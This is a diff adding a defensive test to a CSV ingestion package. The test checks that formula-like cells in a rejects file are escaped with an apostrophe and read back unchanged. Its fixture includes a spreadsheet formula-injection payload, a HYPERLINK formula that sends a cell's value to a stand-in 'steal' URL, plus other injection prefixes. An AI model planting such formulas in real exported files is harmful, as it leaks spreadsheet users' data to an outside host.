@@ -6,7 +6,7 @@ import csv
 import json
 from pathlib import Path
 
-from siyu.ingest.readers import BadRow
+from siyu.ingest.readers import BadRow, open_source
 from siyu.ingest.rejects import RejectsFile, rejected_path
 
 
@@ -57,3 +57,26 @@ def test_discard_leaves_no_partial_file(tmp_path: Path) -> None:
     rejects.write(2, {"id": "c1"}, [("id", "x")])
     rejects.discard()
     assert list(tmp_path.iterdir()) == []
+
+
+def test_formula_cells_are_written_as_text_and_read_back_as_they_were(tmp_path: Path) -> None:
+    hostile = '=HYPERLINK("http://x.example/steal?"&A2,"详情")'
+    rejects = RejectsFile(tmp_path / "c.csv", "csv", ("id", "name", "@note"))
+    rejects.write(2, {"id": "+c1", "name": hostile, "@note": "-1"}, [("id", "unknown")])
+    rejects.write(3, BadRow("too long", cells=("c2", "\t=1", "'=2", "x")), [("", "=too long")])
+    path = rejects.commit()
+    assert path is not None
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows == [
+        ["_row", "_errors", "id", "name", "'@note"],
+        ["2", "id: unknown", "'+c1", "'" + hostile, "'-1"],
+        ["3", "'=too long", "c2", "'\t=1", "''=2", "x"],
+    ]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+    with open_source(path) as source:
+        assert source.columns == ("_row", "_errors", "id", "name", "@note")
+        read = list(source.rows())
+    assert read[0] == (2, {"_row": "2", "_errors": "id: unknown", "id": "+c1", "name": hostile, "@note": "-1"})
+    assert isinstance(read[1][1], BadRow)
+    assert read[1][1].cells == ("3", "=too long", "c2", "\t=1", "'=2", "x")
